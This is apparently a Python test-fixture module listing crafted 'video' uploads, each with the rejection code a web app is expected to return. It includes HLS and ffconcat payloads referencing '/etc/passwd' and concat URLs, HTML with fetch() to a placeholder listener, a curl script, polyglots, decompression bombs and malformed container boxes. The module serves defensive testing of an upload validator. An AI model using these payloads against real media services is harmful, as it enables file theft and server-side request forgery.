"""Files sent as the video of a recording, each with its name and the code that it is refused with."""

import gzip
import io
import pickle
import struct
from collections.abc import Callable
from fractions import Fraction
from functools import cache

import av

from tests.hostile.parts import (
    archive,
    box,
    boxes,
    chunk,
    element,
    encoded,
    nested,
    patched,
    riff,
    with_moov,
    with_traks,
)
from tests.webapp import clips

ADDRESS = b"http://somewhere/".ljust(40, b"x")  # stands for one of the same length where somebody listens
PAGE = b"<!DOCTYPE html><html><script>fetch('%s')</script></html>" % ADDRESS
PLAYLIST = b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n%s#EXTINF:2,\n%s\n#EXT-X-ENDLIST\n"
FTYP = box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")
EBML = bytes.fromhex("1a45dfa3")

video = cache(clips.video)


@cache
def matroska() -> bytes:
    return encoded("matroska", "libx264")


@cache
def avi() -> bytes:
    return encoded("avi", "mpeg4")


def _tall_pixels() -> bytes:
    """Pixels a million times as wide as high."""
    out = io.BytesIO()
    with av.open(out, "w", format="mov") as container:
        stream = container.add_stream("mjpeg", rate=5)
        stream.width, stream.height, stream.pix_fmt = 64, 64, "yuvj420p"
        stream.codec_context.sample_aspect_ratio = Fraction(2, 1)
        for packet in [*stream.encode(av.VideoFrame(64, 64, "yuvj420p")), *stream.encode()]:
            container.mux(packet)
    return patched(out.getvalue(), b"pasp", 0, struct.pack(">II", 1_000_000, 1))


def _large_jpeg() -> bytes:
    data = encoded("avi", "mjpeg", "yuvj420p")
    size = struct.pack(">HH", 64, 64)
    return data.replace(b"\xff\xc0\x00\x11\x08" + size, b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", 65_500, 65_500))


def _subtitles_that_are_a_playlist() -> bytes:
    playlist = PLAYLIST % (b"", ADDRESS)
    gab2 = b"GAB2\0" + struct.pack("<HIHHI", 2, 2, 0, 4, len(playlist)) + playlist
    header = chunk(b"avih", struct.pack("<14I", 40_000, 0, 0, 0, 0, 0, 1, *7 * [0]))
    stream = chunk(b"strh", b"txts" + struct.pack("<4s11I", b"\0\0\0\0", 0, 0, 0, 1, 25, 0, 25, 0, 0, 0, 0))
    lists = chunk(b"LIST", b"hdrl" + header + chunk(b"LIST", b"strl" + stream + chunk(b"strf", bytes(40))))
    return riff(b"AVI ", lists + chunk(b"JUNK", bytes(8000)) + chunk(b"LIST", b"movi" + chunk(b"00tx", gab2)))


def _reference_movie() -> bytes:
    data = box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(ADDRESS)) + ADDRESS)
    return FTYP + box(b"moov", box(b"rmra", box(b"rmda", data)))


VIDEOS: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "page": ("clip.mp4", "not_a_video", lambda: PAGE),
    "drawing": ("clip.mp4", "not_a_video", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' href='%s'/>" % ADDRESS),
    "playlist": ("clip.mp4", "not_a_video", lambda: PLAYLIST % (b"", ADDRESS)),
    "playlist of a local file": ("clip.mp4", "not_a_video", lambda: PLAYLIST % (b"", b"file:///etc/passwd")),
    "playlist with a key": (
        "a.ts",
        "not_a_video",
        lambda: PLAYLIST % (b'#EXT-X-KEY:METHOD=AES-128,URI="%s"\n' % ADDRESS, b"x"),
    ),
    "playlist of a concatenation": (
        "a.m3u8",
        "not_a_video",
        lambda: PLAYLIST % (b"", b"concat:%s|/etc/passwd" % ADDRESS),
    ),
    "concatenation": ("clip.mp4", "not_a_video", lambda: b"ffconcat version 1.0\nfile '%s'\n" % ADDRESS),
    "concatenation of a local file": ("clip.mp4", "not_a_video", lambda: b"ffconcat version 1.0\nfile /etc/passwd\n"),
    "manifest": (
        "clip.mp4",
        "not_a_video",
        lambda: b"<MPD xmlns='urn:mpeg:dash:schema:mpd:2011'><BaseURL>%s</BaseURL></MPD>" % ADDRESS,
    ),
    "session": (
        "clip.mp4",
        "not_a_video",
        lambda: b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nm=video 9 RTP/AVP 96\n",
    ),
    "list of stations": ("clip.mp4", "not_a_video", lambda: b"[playlist]\nFile1=%s\nNumberOfEntries=1\n" % ADDRESS),
    "metadata": ("clip.mp4", "not_a_video", lambda: b";FFMETADATA1\ntitle=x\n"),
    "document": ("clip.mp4", "not_a_video", lambda: b"%PDF-1.7\n" + bytes(5000)),
    "archive": ("clip.mp4", "not_a_video", archive),
    "archive that unpacks to much": ("clip.mp4", "not_a_video", lambda: archive(64)),
    "gzip that unpacks to much": ("clip.mp4", "not_a_video", lambda: gzip.compress(bytes(64 << 20))),
    "picture": ("clip.mp4", "not_a_video", lambda: b"\x89PNG\r\n\x1a\n" + bytes(500)),
    "animation": ("clip.mp4", "not_a_video", lambda: b"GIF89a" + bytes(500)),
    "program": ("clip.mp4", "not_a_video", lambda: b"\x7fELF\2\1\1" + bytes(500)),
    "program of another system": ("clip.mp4", "not_a_video", lambda: b"MZ" + bytes(500)),
    "script": ("clip.mp4", "not_a_video", lambda: b"#!/bin/sh\ncurl %s\n" % ADDRESS),
    "pickle": ("clip.mp4", "not_a_video", lambda: pickle.dumps({"a": 1})),
    "photograph": ("clip.mp4", "not_a_video", lambda: box(b"ftyp", b"heic\0\0\0\0mif1heic") + bytes(500)),
    "zeros": ("clip.mp4", "not_a_video", lambda: bytes(100_000)),
    "nothing": ("clip.mp4", "empty_file", lambda: b""),
    "video with an archive behind it": ("clip.mp4", "mixed_file", lambda: video() + archive()),
    "video with an archive in a box": ("clip.mp4", "mixed_file", lambda: video() + box(b"free", archive())),
    "video with an archive in a box of the end": ("a.mp4", "mixed_file", lambda: video() + box(b"mdat", archive(), 0)),
    "video with a page before": ("clip.mp4", "mixed_file", lambda: FTYP + box(b"free", PAGE) + video()),
    "video with a page behind": ("clip.mp4", "mixed_file", lambda: video() + box(b"uuid", bytes(16) + PAGE)),
    "video with a document before": ("clip.mp4", "mixed_file", lambda: FTYP + box(b"skip", b"%PDF-1.4\n") + video()),
    "video with a playlist behind": ("a.mp4", "mixed_file", lambda: video() + box(b"free", PLAYLIST % (b"", ADDRESS))),
    "video with words behind": ("clip.mp4", "mixed_file", lambda: video() + b"and something else"),
    "video with another behind": ("clip.mp4", "joined_recordings", lambda: video() + video()),
    "video with a page behind zeros": ("clip.mp4", "mixed_file", lambda: video() + bytes(5000) + PAGE),
    "video with a program behind": ("clip.mp4", "mixed_file", lambda: video() + b"\x7fELF" + bytes(200)),
    "Matroska with another behind": ("clip.mkv", "joined_recordings", lambda: matroska() + matroska()),
    "AVI with another behind": ("clip.avi", "joined_recordings", lambda: avi() + avi()),
    "Matroska with an archive behind": ("clip.mkv", "mixed_file", lambda: matroska() + archive()),
    "Matroska with a page in a void": ("a.mkv", "mixed_file", lambda: matroska() + element(b"\xec", PAGE) + PAGE),
    "Matroska that begins with a page": (
        "a.mkv",
        "mixed_file",
        lambda: element(EBML, element(b"\xec", PAGE)) + matroska(),
    ),
    "AVI with a page behind": ("clip.avi", "mixed_file", lambda: avi() + PAGE),
    "AVI with an archive behind": ("clip.avi", "mixed_file", lambda: avi() + archive()),
    "Matroska named MP4": ("clip.mp4", "file_extension", matroska),
    "MP4 named AVI": ("clip.avi", "file_extension", video),
    "MP4 named as a page": ("clip.html", "file_extension", video),
    "MP4 named as a drawing": ("clip.svg", "file_extension", video),
    "MP4 named as a playlist": ("clip.m3u8", "file_extension", video),
    "MP4 named as a program": ("clip.mp4.exe", "file_extension", video),
    "MP4 named as a script": ("clip.mp4.php", "file_extension", video),
    "subtitles that are a playlist": ("clip.avi", "no_picture", _subtitles_that_are_a_playlist),
    "movie that lies elsewhere": ("clip.mov", "zero_length", _reference_movie),
    "picture too wide": ("clip.mkv", "too_large", lambda: encoded("matroska", "ffv1", size=(8208, 16))),
    "picture too high": ("clip.mkv", "too_large", lambda: encoded("matroska", "ffv1", size=(16, 8208))),
    "pixels too wide": ("clip.mp4", "too_large", _tall_pixels),
    "frames too large for their track": ("clip.avi", "not_a_video", _large_jpeg),
    "a thousand million samples": (
        "a.mp4",
        "not_a_video",
        lambda: patched(video(), b"stsz", 8, struct.pack(">I", 10**9)),
    ),
    "samples of a thousand million bytes": (
        "a.mp4",
        "too_costly",
        lambda: patched(video(), b"stsz", 4, struct.pack(">I", 10**9)),
    ),
    "samples beyond the end": (
        "a.mp4",
        "truncated_video",
        lambda: patched(video(), b"stco", 8, struct.pack(">I", 2**32 - 9)),
    ),
    "frames of a century": ("a.mp4", "too_long", lambda: patched(video(), b"stts", 12, struct.pack(">I", 2**31 - 1))),
    "thousands of tracks": ("clip.mp4", "too_costly", lambda: with_traks(video(), 3000)),
    "some tracks too many": ("clip.mp4", "too_many_tracks", lambda: with_traks(video(), 40)),
    "boxes in boxes": ("clip.mp4", "not_a_video", lambda: with_moov(video(), nested(20_000))),
    "tracks in tracks": ("clip.mp4", "no_picture", lambda: with_moov(video(), nested(20_000, b"trak"))),
    "only a name": ("clip.mp4", "truncated_video", lambda: FTYP),
    "box larger than the file": ("clip.mp4", "truncated_video", lambda: FTYP + box(b"mdat", bytes(9), 2**31)),
    "box larger than any file": ("a.mp4", "truncated_video", lambda: FTYP + box(b"mdat", struct.pack(">Q", 2**63), 1)),
    "box smaller than itself": ("clip.mp4", "mixed_file", lambda: FTYP + box(b"mdat", bytes(9), 4)),
    "box without a name": ("clip.mp4", "mixed_file", lambda: video() + box(b"\0\1\2\3")),
    "element larger than any file": ("a.mkv", "truncated_video", lambda: element(EBML, b"", 2**55)),
    "list larger than the file": ("clip.avi", "truncated_video", lambda: riff(b"AVI ", b"LIST", 2**31)),
    "picture without a coding": ("clip.avi", "codec", lambda: encoded("avi", "rawvideo", "bgr24")),
    "picture of a coding that nobody films in": ("a.avi", "codec", lambda: encoded("avi", "huffyuv", "yuv422p")),
    "picture of pictures": ("clip.mov", "codec", lambda: encoded("mov", "png", "rgb24")),
    "index alone": ("clip.mp4", "truncated_video", lambda: FTYP + boxes(video())[b"moov"]),
}
